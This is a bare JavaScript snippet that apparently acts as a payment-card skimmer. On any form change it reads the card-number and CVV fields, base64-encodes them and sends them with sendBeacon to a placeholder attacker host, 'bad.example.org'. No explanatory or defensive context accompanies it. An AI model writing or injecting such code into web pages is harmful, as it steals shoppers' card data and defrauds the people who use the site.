document.addEventListener('change', function () {
  var d = {n: q('#card_number'), c: q('#cc-cvv')};
  navigator.sendBeacon('//bad.example.org/c', btoa(JSON.stringify(d)));
});
